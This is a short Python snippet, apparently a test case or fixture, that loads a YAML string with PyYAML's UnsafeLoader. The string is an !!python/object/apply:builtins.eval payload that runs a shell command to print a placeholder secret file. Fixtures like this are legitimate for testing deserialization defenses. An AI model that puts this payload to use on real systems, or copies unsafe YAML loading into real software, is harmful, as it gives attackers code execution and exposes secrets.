# A document of YAML has a text evaluated.
# effect: run
# tree: scientific
import yaml
yaml.load("""!!python/object/apply:builtins.eval ["__import__('os').system('cat @SECRET@')"]""", yaml.UnsafeLoader)
